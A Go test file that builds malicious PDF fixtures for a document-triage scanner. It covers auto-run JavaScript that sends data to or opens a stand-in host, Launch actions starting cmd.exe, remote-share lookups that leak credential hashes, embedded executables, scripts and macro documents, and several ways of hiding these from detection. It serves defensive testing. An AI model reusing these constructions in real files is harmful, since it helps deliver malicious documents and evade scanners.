package triagetest

import "estran/session"

// activePDFs do something by themselves, or hold what does.
func activePDFs() []Entry {
	const active = session.ReasonActivePDF
	script := func(js string) string { return "<</S/JavaScript/JS(" + js + ")>>" }
	return []Entry{
		hostile("facture 4471.pdf", "JavaScript as soon as it is opened", made(pdf{
			catalog: "/OpenAction 7 0 R", objects: []string{script(`app.launchURL\("http://malin.example/x", true\);`)},
		}), active),
		hostile("colis.pdf", "the same: its name is written with an escape, in an object stream", made(pdf{
			version: "1.5", packed: true, catalog: "/#4fpenAction 7 0 R",
			objects: []string{"<</#53/J#61vaScript/#4a#53 " + hexText(`app.launchURL("http://malin.example/x", true);`) + ">>"},
		}), active),
		hostile("releve.pdf", "JavaScript in a compressed stream, called by the name tree of the document", made(pdf{
			catalog: "/Names<</JavaScript<</Names[(a) 7 0 R]>>>>",
			objects: []string{"<</S/JavaScript/JS 8 0 R>>", flated("", []byte(`this.exportDataObject({ cName: "a.exe", nLaunch: 2 });`))},
		}), active),
		hostile("plan.pdf", "starts a program of Windows", made(pdf{
			catalog: "/OpenAction<</S/Launch/Win<</F(cmd.exe)/P(/c calc.exe)>>>>",
		}), active),
		hostile("plan 2.pdf", "starts a program when the page is clicked, in an object stream", made(pdf{
			packed: true, page: "/Annots[7 0 R]",
			objects: []string{"<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</Type/Action/S/#4caunch/F(\\\\\\\\10.0.0.1\\\\a\\\\x.exe)>>>>"},
		}), active),
		hostile("carte.pdf", "the word that tells is an object of its own", made(pdf{
			catalog: "/OpenAction 7 0 R", objects: []string{"<</S 8 0 R/JS(app.alert\\(1\\))>>", "/JavaScript"},
		}), active),
		hostile("carte 2.pdf", "comments and line ends between the words", made(pdf{
			catalog: "/OpenAction%x\r7 0 R", objects: []string{"<<%>>\n/S%/GoTo\r/Java#53cript\f/JS\x00(app.alert\\(1\\))>>"},
		}), active),
		hostile("carte 3.pdf", "the object stream is in hexadecimal, too", hexed, active),
		hostile("RIB 2.pdf", "JavaScript, enciphered so that a search does not see it; everybody opens it", func() []byte {
			return opened("/OpenAction 4 0 R", "<</S/JavaScript/JS(app.alert\\(1\\))>>")
		}, active),
		hostile("avis.pdf", "JavaScript when the page is shown", made(pdf{
			page: "/AA<</O " + script(`this.submitForm\("http://malin.example/"\);`) + ">>",
		}), active),
		hostile("formulaire piégé.pdf", "a field whose format is more than a format", made(pdf{
			catalog: "/AcroForm<</Fields[7 0 R]>>", page: "/Annots[7 0 R]",
			objects: []string{formField("a", "F", `AFNumber_Format\(2,0,0,0,"",true\); app.launchURL\("http://malin.example"\);`)},
		}), active),
		hostile("formulaire 2.pdf", "sends what it holds as soon as it is opened", made(pdf{
			catalog: "/OpenAction<</S/SubmitForm/F<</FS/URL/F(http://malin.example/)>>/Flags 256>>",
		}), active),
		hostile("invitation.pdf", "opens a site as soon as it is opened", made(pdf{
			catalog: "/OpenAction<</S/URI/URI(http://malin.example/)>>",
		}), active),
		hostile("contrat.pdf", "asks a computer elsewhere for a file, and tells it a password's hash", made(pdf{
			page: "/AA<</O<</S/GoToR/F(\\\\\\\\malin.example\\\\a)/D[0/Fit]>>>>",
		}), active),
		hostile("animation.pdf", "a film of Flash", made(pdf{
			page: "/Annots[7 0 R]",
			objects: append([]string{"<</Type/Annot/Subtype/RichMedia/Rect[0 0 100 100]/RichMediaContent<</Assets<</Names[(a.swf) 8 0 R]>>" +
				"/Configurations[<</Instances[<</Asset 8 0 R>>]/Subtype/Flash>>]>>/RichMediaSettings<</Activation<</Condition/PO>>>>>>"},
				embedding(8, "a.swf", "application#2Fx-shockwave-flash", join([]byte("FWS\x0a"), le32(60), make([]byte, 52)))...),
		}), active),
		hostile("notice.pdf", "a program is attached", made(pdf{
			catalog: "/Names<</EmbeddedFiles<</Names[(notice.exe) 7 0 R]>>>>", objects: embedding(7, "notice.exe", "application#2Foctet-stream", pe()),
		}), session.ReasonInside, session.ReasonProgram),
		hostile("notice 2.pdf", "a script is attached to a note, in object streams", made(pdf{
			packed: true, page: "/Annots[9 0 R]",
			objects: append(embedding(7, "notice.vbs", "text#2Fplain", []byte("CreateObject(\"WScript.Shell\").Run \"calc\"\r\n")),
				"<</Type/Annot/Subtype/FileAttachment/Rect[72 700 90 718]/FS 7 0 R>>"),
		}), session.ReasonInside, session.ReasonProgram),
		hostile("dossier complet.pdf", "a Word document with macros is attached", made(pdf{
			catalog: "/Names<</EmbeddedFiles<</Names[(a.docm) 7 0 R]>>>>",
			objects: embedding(7, "a.docm", "application#2Foctet-stream", docm(rel("rId2", "vbaProject", "vbaProject.bin"), file("word/vbaProject.bin", vbaBin()))),
		}), session.ReasonInside, session.ReasonMacros),
		hostile("mise à jour.pdf", "JavaScript that was added by an incremental update", func() []byte {
			return amended("/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.print\\(\\);)>>")
		}, active),
		hostile("sans table.pdf", "JavaScript in a PDF without a table: readers find its objects all the same", text(
			"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"+
				"3 0 obj<</S /JavaScript /JS (app.launchURL\\(\"http://malin.example\"\\))>>endobj\ntrailer<</Root 1 0 R>>\n"), active),
	}
}

// hexed is a PDF whose action lies in an object stream that is packed, then written in hexadecimal (7.4.2).
func hexed() []byte {
	const action = "<</S/JavaScript/JS(app.alert\\(1\\))>>"
	stream := streamOf("/Type/ObjStm/N 1/First 5/Filter[/ASCIIHexDecode/FlateDecode]", []byte(hexOf(zlibbed([]byte("10 0 "+action)))+">"))
	head := "%PDF-1.5\n1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction 10 0 R>>\nendobj\n"
	pages := "2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n"
	three := "3 0 obj\n" + stream + "\nendobj\n"
	at := len(head) + len(pages) + len(three)
	row := func(kind byte, where int, third byte) []byte {
		return []byte{kind, byte(where >> 8), byte(where), third}
	}
	rows := join(row(0, 0, 255), row(1, 9, 0), row(1, len(head), 0), row(1, len(head)+len(pages), 0), row(1, at, 0), row(2, 3, 0))
	xref := "4 0 obj\n" + flated("/Type/XRef/Size 11/W[1 2 1]/Index[0 5 10 1]/Root 1 0 R", rows) + "\nendobj\n"
	return []byte(head + pages + three + xref + "startxref\n" + digits(at) + "\n%%EOF\n")
}
